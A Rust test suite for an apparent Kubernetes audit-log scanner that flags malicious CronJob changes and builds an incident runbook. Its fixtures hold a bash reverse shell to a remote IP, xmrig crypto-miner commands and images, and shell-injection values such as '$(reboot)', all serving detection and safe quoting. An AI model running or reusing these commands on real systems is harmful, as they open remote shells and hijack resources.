//! The runbook, end to end: indicators on behaviour by their own examples, sources of specs, verdicts of the story.

use std::collections::BTreeMap;
use std::fmt::Write;
use std::path::PathBuf;

use kubesweep::runbook::Catalogue;
use kubesweep::runbook::indicators::Example;
use serde_json::{Value, json};

use crate::{hits, kubesweep, root, rows, scan};

/// The time of the request being judged.
const NOW: &str = "2026-11-24T03:00:00Z";

/// A native event, `minutes` from now, from the members of an example.
fn event(words: &Value, id: &str) -> Value {
    let text = |key: &str| words[key].as_str().map(str::to_owned);
    let now: jiff::Timestamp = NOW.parse().unwrap();
    let minutes = words["minutes"].as_i64().unwrap_or(0);
    let time = now.checked_add(jiff::SignedDuration::from_mins(minutes)).unwrap();
    let path = text("resource").unwrap_or_else(|| "cronjobs".to_owned());
    let (resource, subresource) =
        path.split_once('/').map_or((path.as_str(), None), |(left, right)| (left, Some(right)));
    let mut event = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": id,
        "stage": "ResponseComplete", "verb": words["verb"], "requestURI": format!("/{path}"),
        "user": {"username": words["user"], "groups": words.get("groups").cloned().unwrap_or(json!(["system:authenticated"]))},
        "sourceIPs": [text("ip").unwrap_or_else(|| "10.0.0.9".to_owned())],
        "userAgent": text("agent").unwrap_or_else(|| "kubectl/v1.29.0".to_owned()),
        "objectRef": {"resource": resource, "subresource": subresource, "namespace": words["namespace"], "name": words["name"],
                      "apiGroup": "batch", "apiVersion": "v1"},
        "responseStatus": {"code": words.get("code").cloned().unwrap_or(json!(200))},
        "requestReceivedTimestamp": time, "stageTimestamp": time,
    });
    if let Some(user) = text("impersonates") {
        event["impersonatedUser"] =
            json!({"username": user, "groups": words.get("impersonated_groups").cloned().unwrap_or(json!([]))});
    }
    if resource == "cronjobs" && words["verb"] != "delete" && words["code"].as_i64().unwrap_or(200) < 400 {
        event["responseObject"] = cronjob(words);
    }
    event
}

fn cronjob(words: &Value) -> Value {
    let image = words["image"].as_str().unwrap_or("registry.example.com/report:1");
    let command: Vec<&str> = words["command"].as_str().unwrap_or("/report").split(' ').collect();
    let container = json!({"name": "c", "image": image, "command": command});
    json!({"kind": "CronJob", "metadata": {"name": words["name"], "namespace": words["namespace"], "labels": words["labels"]},
           "spec": {"schedule": "0 2 * * *", "suspend": words["suspend"],
                    "jobTemplate": {"spec": {"template": {"metadata": {"creationTimestamp": null}, "spec": {"containers": [container]}}}}}})
}

/// The line of an AKS export, which names its cluster.
fn line(cluster: &str, event: &Value) -> String {
    let id =
        format!("/SUBSCRIPTIONS/S/RESOURCEGROUPS/G/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/{cluster}");
    let line = json!({"category": "kube-audit", "resourceId": id, "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
                      "time": event["stageTimestamp"], "properties": {"log": event.to_string(), "stream": "stdout", "pod": "p"}});
    format!("{line}\n")
}

/// An event every hour, so that the dump covers the time of the events.
fn heartbeats(cluster: &str, first: i64, dump: &mut String) {
    for minutes in (first..0).step_by(60) {
        let words =
            json!({"user": "system:node:n", "verb": "get", "resource": "nodes", "name": "n", "minutes": minutes});
        dump.push_str(&line(cluster, &event(&words, &format!("beat-{cluster}-{minutes}"))));
    }
}

fn dump(text: &str) -> (tempfile::TempDir, PathBuf) {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("PT1H.json");
    std::fs::write(&file, text).unwrap();
    (directory, file)
}

#[test]
fn commands_to_copy_hold_no_text_that_a_shell_or_kubectl_acts_on() {
    for (namespace, name) in [("$(reboot)", "--all"), ("-n", "`reboot`"), ("a b", "x\ny"), ("--all-namespaces", "-")] {
        let words = json!({"verb": "create", "user": "it's me; reboot", "namespace": namespace, "name": name});
        let here = tempfile::tempdir().unwrap();
        std::fs::write(here.path().join("a"), format!("{}\n", event(&words, "id"))).unwrap();
        let run = kubesweep(here.path(), &["runbook", "a", "-q", "--format", "json"]);
        let runbook: Value = serde_json::from_str(&run.stdout).unwrap();
        let next: Vec<_> = runbook["alerts"][0]["next"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
        let is_there = |command: &str| next.iter().any(|text| text.starts_with(command));
        assert!(is_there("kubectl -n NAMESPACE get "), "{next:?}");
        assert!(next.contains(&"kubectl -n NAMESPACE delete cronjob NAME"), "{next:?}");
        assert!(next.contains(&"kubesweep events DUMP --audit-id='id' --raw"), "{next:?}");
        // A shell without comments would pass them on as arguments.
        assert!(!next.iter().any(|text| text.contains(" #")), "{next:?}");
        assert!(is_there(r"kubesweep events DUMP --user='it'\''s me; reboot'"), "{next:?}");
    }
}

#[test]
fn indicators_on_behaviour_hold_their_examples() {
    let mut text = String::new();
    let mut expected: BTreeMap<String, (String, bool)> = BTreeMap::new();
    for indicator in Catalogue::builtin().iter() {
        let examples = indicator.positive.iter().map(|example| (example, true));
        for (example, found) in examples.chain(indicator.negative.iter().map(|example| (example, false))) {
            let Example::Events(events) = example else { continue };
            let cluster = format!("EX-{}", expected.len());
            let first = events.iter().filter_map(|words| words["minutes"].as_i64()).min().unwrap_or(0);
            heartbeats(&cluster, first, &mut text);
            for (at, words) in events.iter().enumerate() {
                text.push_str(&line(&cluster, &event(words, &format!("{cluster}-{at}"))));
            }
            let is_write = |words: &Value| ["create", "update", "patch"].iter().any(|verb| words["verb"] == *verb);
            let judged = events.iter().rposition(is_write).unwrap_or_default();
            expected.insert(format!("{cluster}-{judged}"), (indicator.id.clone(), found));
        }
    }
    assert!(expected.len() > 40, "the examples are there");
    let (_directory, file) = dump(&text);
    let (_temporary, out, run) = scan(&[file], &["--deep", "--rules", "builtin:all"]);
    assert_eq!(run.exit, 0, "{}", run.stderr);
    let mut found: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for hit in hits(&out) {
        let ids = hit["indicators"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|finding| finding["id"].as_str().unwrap().to_owned());
        found.entry(hit["audit_id"].as_str().unwrap().to_owned()).or_default().extend(ids);
    }
    let mut wrong = String::new();
    for (audit_id, (indicator, wanted)) in &expected {
        let ids = found.get(audit_id).cloned().unwrap_or_default();
        if ids.contains(indicator) != *wanted {
            writeln!(wrong, "{audit_id}: {indicator} wanted {wanted}, found {ids:?}").unwrap();
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

fn runbook(paths: &[PathBuf], options: &[&str]) -> Value {
    let mut arguments: Vec<String> = vec!["runbook".into(), "--format".into(), "json".into()];
    arguments.extend(paths.iter().map(|path| path.to_str().unwrap().to_owned()));
    arguments.extend(options.iter().map(|&option| option.to_owned()));
    let run = kubesweep(root(), &arguments);
    serde_json::from_str(&run.stdout).unwrap_or_else(|error| panic!("{error}: {}", run.stderr))
}

#[test]
fn the_story_has_its_verdicts() {
    let book = runbook(&[root().join("fixtures/dumps")], &[]);
    let worst: BTreeMap<&str, &str> = book["users"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .map(|user| (user["username"].as_str().unwrap(), user["worst"].as_str().unwrap()))
        .collect();
    for (user, verdict) in [
        ("eve", "MALICIOUS-LIKELY"),
        ("masterclient", "MALICIOUS-LIKELY"),
        ("system:serviceaccount:web:default", "MALICIOUS-LIKELY"),
        ("dana@corp.example", "REVIEW"),
    ] {
        assert_eq!(worst[user], verdict, "{user}");
    }
    let alerts = book["alerts"].as_array().unwrap();
    let of_bot =
        alerts.iter().filter(|alert| alert["username"] == "system:serviceaccount:argocd:argocd-application-controller");
    let unexpected: Vec<_> = of_bot.filter(|alert| alert["verdict"] != "EXPECTED").collect();
    // The first write of a cluster has no history to explain it, and the dump goes back no further.
    assert!(unexpected.iter().all(|alert| alert["history_level"] == "E?"), "{unexpected:?}");
    assert_eq!(unexpected.len(), 3);
    let eve = &alerts[0];
    assert_eq!(eve["verdict_rule"], "S3 x E0 with CJ-BEH-04, CJ-BEH-16");
    assert_eq!(eve["before"]["class"], "probing");
    assert_eq!(eve["history"]["text"], "no CronJob write by this user (dump covers 28.8 of 30 days)");
    let reasons: Vec<_> =
        eve["reasons"].as_array().unwrap().iter().map(|reason| reason["id"].as_str().unwrap()).collect();
    assert!(reasons.contains(&"CJ-CMD-11") && reasons.contains(&"CJ-BEH-04"), "{reasons:?}");
}

#[test]
fn options_narrow_the_runbook() {
    let dump = [root().join("fixtures/dumps")];
    let all = runbook(&dump, &[]);
    let id = all["alerts"][0]["alert_id"].as_str().unwrap();
    for (options, count) in [
        (["--user", "eve"], 1),
        (["--cluster", "payments"], 31),
        (["--namespace", "reports"], 1),
        (["--alert", &id[..8]], 1),
        (["--user", "*@corp.example"], 3),
        (["--user", "nobody"], 0),
    ] {
        let found = runbook(&dump, &options);
        assert_eq!(found["alerts"].as_array().unwrap().len(), count, "{options:?}");
        assert_eq!(found["settings"]["only"], options.join(" "));
        assert_eq!(found["left_out"], 110 - count);
    }
}

#[test]
fn precursors_are_looked_for_only_when_asked() {
    let dump = [root().join("fixtures/dumps")];
    let before = |options: &[&str]| runbook(&dump, options)["alerts"][0]["before"].clone();
    assert_eq!(before(&[])["precursors"], "not looked at (--deep)");
    let deep = before(&["--deep"]);
    let acts: Vec<&str> =
        deep["precursor_list"].as_array().unwrap().iter().map(|act| act["what"].as_str().unwrap()).collect();
    assert!(acts.iter().any(|act| act.starts_with("list secrets")), "{acts:?}");
    assert!(acts.iter().any(|act| act.contains("cluster-admin for eve")), "{acts:?}");
}

/// The first pass keeps only an outline of requests for Jobs of a CronJob; the second needs them whole.
#[test]
fn refused_jobs_are_precursors() {
    let mut text = line("C", &event(&json!({"user": "eve", "verb": "create", "namespace": "n", "name": "x"}), "hit"));
    for minutes in [-3000, -5, -4, -3, -2, -1] {
        let words = json!({"user": "eve", "verb": "create", "resource": "jobs", "namespace": "n",
            "name": "x-29384715", "minutes": minutes, "code": 403});
        let mut refused = event(&words, &format!("refused-{minutes}"));
        refused["requestObject"] = json!({"metadata": {"ownerReferences": [{"kind": "CronJob", "name": "x"}]}});
        text.push_str(&line("C", &refused));
    }
    let (_directory, file) = dump(&text);
    let book = runbook(&[file], &["--deep"]);
    let alert = &book["alerts"][0];
    assert_eq!(alert["before"]["precursor_list"].as_array().unwrap().len(), 5, "{alert:#}");
    assert_eq!(alert["who"]["source_new"], false, "{alert:#}");
}

/// Sources if the response does not contain the object: a patch on the state before, the annotation, the Job, the Pod.
#[test]
fn specs_come_from_the_best_source() {
    let create = json!({"user": "a", "verb": "create", "namespace": "n", "name": "x", "minutes": -60});
    let mut suspended = create.clone();
    suspended["suspend"] = json!(true);
    let patch = |cluster: &str, body: Option<Value>| {
        let mut event = event(
            &json!({"user": "a", "verb": "patch", "namespace": "n", "name": "x", "minutes": 0}),
            &format!("{cluster}-p"),
        );
        event.as_object_mut().unwrap().remove("responseObject");
        if let Some(body) = body {
            event["requestObject"] = body;
        }
        line(cluster, &event)
    };
    let new_image = |image: &str| json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [{"name": "c", "image": image}]}}}}}});
    let applied = json!({"metadata": {"annotations": {"kubectl.kubernetes.io/last-applied-configuration":
        cronjob(&json!({"name": "x", "namespace": "n", "image": "applied:1"})).to_string()}}, "spec": {"suspend": false}});
    let child = |cluster: &str, kind: &str, owner: Value, spec: Value, user: &str| {
        let mut event = event(
            &json!({"user": user, "verb": "create", "resource": kind, "namespace": "n", "minutes": 1}),
            &format!("{cluster}-{kind}"),
        );
        event["requestObject"] = json!({"metadata": {"ownerReferences": [owner]}, "spec": spec});
        line(cluster, &event)
    };
    let pod = json!({"containers": [{"name": "c", "image": "child:1"}]});
    let of_job = child(
        "JOB",
        "jobs",
        json!({"kind": "CronJob", "name": "x"}),
        json!({"template": {"metadata": {"creationTimestamp": null, "labels": {"controller-uid": "u", "batch.kubernetes.io/job-name": "x-29384715"}},
            "spec": pod}}),
        "system:serviceaccount:kube-system:cronjob-controller",
    );
    let of_pod = child(
        "POD",
        "pods",
        json!({"kind": "Job", "name": "x-29384715"}),
        pod,
        "system:serviceaccount:kube-system:job-controller",
    );
    let text = [
        line("PATCH", &event(&create, "PATCH-c")), patch("PATCH", Some(new_image("patched:1"))),
        patch("JSONPATCH", None), line("JSONPATCH", &event(&create, "JSONPATCH-c")),
        patch("JSONPATCH", Some(json!([{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec/containers/0/image", "value": "patched:1"}]))).replace("JSONPATCH-p", "JSONPATCH-q"),
        patch("ALONE", Some(new_image("alone:1"))), patch("APPLIED", Some(applied)),
        line("JOB", &event(&suspended, "JOB-c")), patch("JOB", None), of_job,
        line("UNFIT", &event(&create, "UNFIT-c")), patch("UNFIT", Some(json!([{"op": "remove", "path": "/spec/nowhere"}]))), patch("POD", None), of_pod, patch("NONE", None),
    ].concat();
    let (_directory, file) = dump(&text);
    let book = runbook(&[file], &[]);
    let mut sources: BTreeMap<String, (Value, Value, Value)> = BTreeMap::new();
    for alert in book["alerts"].as_array().unwrap() {
        for what in alert["cronjobs"].as_array().unwrap().iter().filter(|what| what["change"] == "modified") {
            let image = what["containers"][0]["image"].clone();
            sources.insert(
                alert["cluster"].as_str().unwrap().to_owned(),
                (what["spec_source"].clone(), image, what["spec_level"].clone()),
            );
        }
    }
    for (cluster, source, image) in [
        ("PATCH", json!("patch on the last known state"), json!("patched:1")),
        ("ALONE", json!("patch alone"), json!("alone:1")),
        ("APPLIED", json!("last-applied-configuration, the client's word"), json!("applied:1")),
        ("JOB", json!("Job that the controller made"), json!("child:1")),
        ("POD", json!("Pod of its Job"), json!("child:1")),
        ("NONE", Value::Null, Value::Null),
    ] {
        let (found, shown, _) = &sources[cluster];
        assert_eq!((found, shown), (&source, &image), "{cluster}");
    }
    assert_eq!(sources["NONE"].2, "S?");
    let template = "spec.jobTemplate.spec.template";
    for (cluster, note, changed) in [
        ("PATCH", "", format!("{template}.spec.containers[0].image")),
        ("UNFIT", "nothing more of it is known", String::new()),
        // What every Job adds to its pods is not a change of the CronJob, and neither is what a Job does not show.
        (
            "JOB",
            "nothing is known beyond the pod template",
            format!("{template}.spec.containers[0].image, {template}.spec.containers[0].command"),
        ),
    ] {
        let alerts = book["alerts"].as_array().unwrap().iter().filter(|alert| alert["cluster"] == cluster);
        let mut requests = alerts.flat_map(|alert| alert["cronjobs"].as_array().unwrap());
        let request = requests.find(|request| request["change"] == "modified").unwrap();
        let paths: Vec<&str> =
            request["diff"].as_array().unwrap().iter().filter_map(|change| change["path"].as_str()).collect();
        assert_eq!((request["diff_note"].as_str().unwrap(), paths.join(", ")), (note, changed), "{cluster}");
        // A setting that a Job does not show was not switched on.
        let found = request["indicators"].to_string();
        assert!(!found.contains("spec.suspend"), "{cluster} {found}");
    }
}

#[test]
fn cronjobs_that_only_their_controller_shows_are_listed() {
    let mut job = event(
        &json!({"user": "system:serviceaccount:kube-system:cronjob-controller", "verb": "create", "resource": "jobs",
        "namespace": "n", "name": "ghost-29384715"}),
        "j",
    );
    job["requestObject"] = json!({"metadata": {"ownerReferences": [{"kind": "CronJob", "name": "ghost"}]},
        "spec": {"template": {"spec": {"containers": [{"name": "c", "image": "metal3d/xmrig"}]}}}});
    let (_directory, file) = dump(&line("C", &job));
    let book = runbook(&[file], &[]);
    let ghost = &book["controller_only"][0];
    assert_eq!((&ghost["name"], &ghost["jobs"], &ghost["spec_level"]), (&json!("ghost"), &json!(1), &json!("S3")));
}

#[test]
fn a_tuning_file_names_identities_registries_and_thresholds() {
    let directory = tempfile::tempdir().unwrap();
    let tune = directory.path().join("tune.yml");
    let text = "gitops:\n  add: ['system:serviceaccount:web:*']\n  remove: ['system:serviceaccount:argocd:*']\nregistries: [registry.corp.example/]\nrunbook:\n  covered_days: 29\n";
    std::fs::write(&tune, text).unwrap();
    let book = runbook(&[root().join("fixtures/dumps")], &["--tune", tune.to_str().unwrap()]);
    let of =
        |user: &str| book["alerts"].as_array().unwrap().iter().find(|alert| alert["username"] == user).unwrap().clone();
    assert_eq!(of("system:serviceaccount:web:default")["who"]["principal_class"], "gitops");
    assert_eq!(
        of("system:serviceaccount:argocd:argocd-application-controller")["who"]["principal_class"],
        "workload_sa"
    );
    assert_eq!(of("eve")["history_level"], "E?");
    let indicators = of("eve")["cronjobs"][0]["indicators"].to_string();
    assert!(indicators.contains("CJ-IMG-01"), "{indicators}");
}

#[test]
fn indicators_can_be_added_and_switched_off() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("mine.yml");
    let text = "indicators:\n- id: CJ-CMD-11\n  enabled: false\n- id: TEAM-1\n  name: our test image\n  category: image\n  severity: critical\n  at: image\n  re: x/miner\n  why: test\n";
    std::fs::write(&file, text).unwrap();
    let book = runbook(&[root().join("fixtures/dumps")], &["--user", "eve", "--indicators", file.to_str().unwrap()]);
    let indicators = book["alerts"][0]["cronjobs"][0]["indicators"].to_string();
    assert!(indicators.contains("TEAM-1") && !indicators.contains("CJ-CMD-11"), "{indicators}");
}

#[test]
fn verdicts_stand_in_alerts_and_summary() {
    let (_temporary, out, run) = scan(&[root().join("fixtures/dumps")], &["--fail-on", "suspicious"]);
    assert_eq!(run.exit, 1, "{}", run.stderr);
    let alerts = rows(&out.join("alerts.csv"));
    assert!(alerts.iter().any(|row| row["username"] == "eve" && row["verdict"] == "MALICIOUS-LIKELY"));
    let summary = rows(&out.join("summary.csv"));
    assert!(summary.iter().any(|row| row["username"] == "eve" && row["verdict"] == "MALICIOUS-LIKELY"));
    let (_temporary, out, run) = scan(&[root().join("fixtures/dumps")], &["--no-runbook", "--fail-on", "critical"]);
    assert_eq!(run.exit, 0);
    assert!(
        !out.join("runbook.json").exists() && rows(&out.join("alerts.csv")).iter().all(|row| row["verdict"].is_empty())
    );
}

#[test]
fn scripts_in_config_maps_are_looked_at_in_a_second_pass() {
    let words = json!({"user": "a", "verb": "create", "namespace": "n", "name": "x", "code": 201, "minutes": 0});
    let mut create = event(&words, "c");
    create["responseObject"]["spec"]["jobTemplate"]["spec"]["template"]["spec"]["volumes"] =
        json!([{"name": "s", "projected": {"sources": [{"configMap": {"name": "scripts"}}]}}]);
    let mut script = event(
        &json!({"user": "b", "verb": "create", "resource": "configmaps", "namespace": "n", "name": "scripts", "code": 201, "minutes": -5}),
        "m",
    );
    script["requestObject"] = json!({"kind": "ConfigMap", "data": {"run.sh": "xmrig -o stratum+tcp://pool:3333"}});
    let (_directory, file) = dump(&[line("C", &script), line("C", &create)].concat());
    let plain = runbook(std::slice::from_ref(&file), &[]);
    assert_eq!(plain["alerts"][0]["cronjobs"][0]["scripts"][0], "ConfigMap scripts: not looked for (--deep)");
    let names =
        |book: &Value| book["alerts"][0]["next"].as_array().unwrap().contains(&json!("kubesweep scan DUMP --deep"));
    assert!(names(&plain), "{plain:#}");
    assert!(plain["alerts"][0]["next"].to_string().contains("get cronjob,job,pod,configmap -o yaml"), "{plain:#}");
    let (_temporary, out, _) = scan(std::slice::from_ref(&file), &[]);
    let page = std::fs::read_to_string(out.join("report.html")).unwrap();
    assert!(page.contains("ConfigMap scripts: not looked for (--deep)"), "{page}");
    let deep = runbook(&[file], &["--deep"]);
    assert!(!names(&deep), "{deep:#}");
    assert_eq!(
        (&deep["alerts"][0]["spec_level"], &deep["alerts"][0]["reasons"][0]["where"]),
        (&json!("S3"), &json!("ConfigMap scripts, run.sh"))
    );
    // The evidence is the write of the script.
    assert_eq!(deep["alerts"][0]["reasons"][0]["audit_id"], "m");
}

/// A patch of labels leaves the spec known, and a patch that includes resourceVersion is applied as far as it concerns
/// the spec.
#[test]
fn patches_beside_the_spec_do_not_lose_it() {
    let words = |minutes: i64, verb: &str| json!({"user": "a", "verb": verb, "namespace": "n", "name": "x", "minutes": minutes});
    let patch = |minutes: i64, id: &str, body: Value| {
        let mut event = event(&words(minutes, "patch"), id);
        event.as_object_mut().unwrap().remove("responseObject");
        event["requestObject"] = body;
        line("C", &event)
    };
    let image = "/spec/jobTemplate/spec/template/spec/containers/0/image";
    let text = [
        line("C", &event(&words(-300, "create"), "c")),
        patch(-200, "l", json!({"metadata": {"labels": {"a": "b"}}})),
        patch(
            0,
            "p",
            json!([{"op": "test", "path": "/metadata/resourceVersion", "value": "1"}, {"op": "replace", "path": image, "value": "metal3d/xmrig"}]),
        ),
    ];
    let (_directory, file) = dump(&text.concat());
    let book = runbook(&[file], &[]);
    let last = book["alerts"].as_array().unwrap().iter().find(|alert| alert["first_seen"] == NOW).unwrap();
    assert_eq!(last["cronjobs"][0]["spec_source"], "patch on the last known state");
    assert_eq!(
        (&last["spec_level"], &last["cronjobs"][0]["diff"][0]["after"]),
        (&json!("S3"), &json!("metal3d/xmrig"))
    );
}

/// Two people behind one credential have two histories.
#[test]
fn who_shares_a_credential_does_not_inherit_its_history() {
    let write = |minutes: i64, ip: &str, name: &str| {
        let words = json!({"user": "masterclient", "verb": "create", "namespace": "n", "name": name, "code": 201, "minutes": minutes, "ip": ip});
        line("C", &event(&words, &format!("{name}{minutes}")))
    };
    let mut text = String::new();
    heartbeats("C", -20_000, &mut text);
    for day in 1..10 {
        text.push_str(&write(-1440 * day - 5, "10.1.2.3", &format!("j{day}")));
    }
    text.push_str(&write(-1, "10.1.2.3", "known"));
    text.push_str(&write(0, "10.9.9.9", "foreign"));
    let (_directory, file) = dump(&text);
    let book = runbook(&[file], &[]);
    let last = book["alerts"].as_array().unwrap().iter().find(|alert| alert["hits"] == 2).unwrap();
    assert_eq!((&last["history_level"], &last["decided_by"]), (&json!("E0"), &json!("n/foreign")));
}

/// What an attacker writes after the attack makes nothing look usual; what the user wrote before still does.
#[test]
fn history_after_a_graver_alert_explains_nothing() {
    let shell = "bash -i >& /dev/tcp/198.51.100.9/443 0>&1";
    let write = |cluster: &str, minutes: i64, name: &str, command: &str| {
        let words = json!({"user": "m", "verb": "create", "namespace": "n", "name": name, "code": 201,
            "minutes": minutes, "command": command});
        line(cluster, &event(&words, &format!("{cluster}{name}")))
    };
    let mut text = String::new();
    for cluster in ["STRANGER", "KNOWN", "MILD"] {
        heartbeats(cluster, -30_000, &mut text);
        let first = if cluster == "MILD" { "/report" } else { shell };
        text.extend(
            [(-600, "a", first), (-300, "b", "/report"), (0, "c", "/report")]
                .map(|(minutes, name, command)| write(cluster, minutes, name, command)),
        );
    }
    text.push_str(&write("KNOWN", -20_000, "old", "/report"));
    let (_directory, file) = dump(&text);
    let book = runbook(&[file], &[]);
    let alerts = book["alerts"].as_array().unwrap();
    let of = |cluster: &str, name: &str| {
        let decided = format!("n/{name}");
        let is_it = |alert: &&Value| alert["cluster"] == cluster && alert["decided_by"] == decided.as_str();
        alerts.iter().find(is_it).unwrap()
    };
    let grave = of("STRANGER", "a");
    for name in ["b", "c"] {
        let (later, mild, known) = (of("STRANGER", name), of("MILD", name), of("KNOWN", name));
        assert_eq!((&later["verdict"], &later["history_level"]), (&json!("REVIEW"), &mild["history_level"]));
        assert_eq!(later["verdict_rule"], "S0 x E0, the history before the first graver alert");
        let reason = later["reasons"].as_array().unwrap().iter().find(|reason| reason["id"] == "CJ-BEH-21").unwrap();
        let told =
            format!("MALICIOUS-LIKELY alert {} of 2026-11-23T17:00:00Z: n/a", grave["alert_id"].as_str().unwrap());
        assert_eq!((&reason["match"], &reason["audit_id"]), (&json!(told), &json!("STRANGERa")));
        assert!(later["would_change"].to_string().contains("the alert that CJ-BEH-21 names"), "{later:#}");
        // An honest user, and one whose history does not rest on the attack.
        assert_eq!((&mild["verdict"], mild["reasons"].to_string().contains("CJ-BEH-21")), (&json!("EXPECTED"), false));
        assert_eq!((&known["verdict"], known["reasons"].to_string().contains("CJ-BEH-21")), (&json!("EXPECTED"), true));
    }
}

/// Three namespaces within ten minutes are a spray, in eighteen they are not; a deletecollection is named as such.
#[test]
fn sprays_and_sweeps_are_told_by_the_minute() {
    let write = |cluster: &str, minutes: i64, namespace: &str| {
        let words = json!({"user": "a", "verb": "create", "namespace": namespace, "name": "x", "code": 201, "minutes": minutes});
        line(cluster, &event(&words, &format!("{cluster}{namespace}")))
    };
    let mut sweep = event(&json!({"user": "b", "verb": "deletecollection", "namespace": "n1", "minutes": 5}), "d");
    sweep.as_object_mut().unwrap().remove("responseObject");
    let dumped = |minutes: [i64; 3], cluster: &str| {
        [write(cluster, minutes[0], "n1"), write(cluster, minutes[1], "n2"), write(cluster, minutes[2], "n3")].concat()
    };
    let text = [dumped([-18, -9, 0], "SLOW"), dumped([-8, -4, 0], "FAST"), line("FAST", &sweep)].concat();
    let (_directory, file) = dump(&text);
    let book = runbook(&[file], &[]);
    for alert in book["alerts"].as_array().unwrap() {
        let is_flagged = alert["red_flags"].to_string().contains("CJ-BEH-17");
        assert_eq!(is_flagged, alert["cluster"] == "FAST", "{} {}", alert["cluster"], alert["namespace"]);
        let is_swept = alert["since"]["text"].as_str().unwrap().contains("perhaps deleted");
        assert_eq!(is_swept, alert["cluster"] == "FAST" && alert["namespace"] == "n1");
    }
}

/// The same names in three clusters, one of them unknown: the result for each is the same as for that cluster alone.
#[test]
fn clusters_that_share_names_know_nothing_of_each_other() {
    let request = |user: &str, verb: &str, name: &str, minutes: i64, image: &str| json!({"user": user, "verb": verb, "namespace": "n", "name": name, "minutes": minutes, "image": image});
    let job = |cluster: &str, name: &str, minutes: i64| {
        let words = json!({"user": "system:serviceaccount:kube-system:cronjob-controller", "verb": "create", "resource": "jobs",
            "namespace": "n", "name": format!("{name}-1"), "minutes": minutes, "code": 201});
        let mut event = event(&words, &format!("{cluster}-{name}-job{minutes}"));
        event["responseObject"] = json!({"kind": "Job", "metadata": {"name": format!("{name}-1"), "namespace": "n",
            "ownerReferences": [{"kind": "CronJob", "name": name, "controller": true}]},
            "spec": {"template": {"spec": {"containers": [{"name": "c", "image": format!("{cluster}/job")}]}}}});
        event
    };
    // Cluster A knows both users well, B has Jobs, and the third neither.
    let of = |cluster: &str| {
        let mut events = Vec::new();
        for day in 1..8 {
            events.push(request(
                "bob",
                if cluster == "A" { "patch" } else { "get" },
                "x",
                -1440 * day,
                "registry.example.com/x:1",
            ));
        }
        events.push(request(
            "eve",
            "create",
            "x",
            -30,
            if cluster == "B" { "metal3d/xmrig" } else { "registry.example.com/x:2" },
        ));
        events.push(request("bob", "patch", "x", 0, "registry.example.com/x:1"));
        events.push(request(
            "eve",
            if cluster == "A" { "delete" } else { "patch" },
            "x",
            10,
            "registry.example.com/x:3",
        ));
        let mut events: Vec<Value> =
            events.iter().enumerate().map(|(at, words)| event(words, &format!("{cluster}-{at}"))).collect();
        // Only the Job shows what this write left.
        events[8].as_object_mut().unwrap().remove("responseObject");
        if cluster == "B" {
            events.extend([job(cluster, "x", 1), job(cluster, "ghost", 2)]);
        }
        events
    };
    let directory = tempfile::tempdir().unwrap();
    let mut files = Vec::new();
    for cluster in ["A", "B", ""] {
        let written = of(cluster).into_iter();
        let text: String = match cluster {
            "" => written.map(|event| event.to_string() + "\n").collect(),
            named => written.map(|event| line(named, &event)).collect(),
        };
        files.push(directory.path().join(format!("audit{cluster}.log")));
        std::fs::write(files.last().unwrap(), text).unwrap();
    }
    let told = |files: &[PathBuf]| {
        let (_temporary, out, _) = scan(files, &[]);
        let book: Value = serde_json::from_slice(&std::fs::read(out.join("runbook.json")).unwrap()).unwrap();
        let lists = ["alerts", "controller_only", "users"].map(|list| book[list].as_array().unwrap().clone());
        lists.into_iter().flatten().chain(hits(&out)).map(|item| item.to_string()).collect::<Vec<_>>()
    };
    let mut together = told(&files);
    let mut alone: Vec<String> = files.iter().flat_map(|file| told(std::slice::from_ref(file))).collect();
    together.sort();
    alone.sort();
    assert_eq!(together, alone);
    let text = together.concat();
    for expected in ["ghost", "E2", "Job that the controller made", "no Job of it is logged"] {
        assert!(text.contains(expected), "{expected}");
    }
}
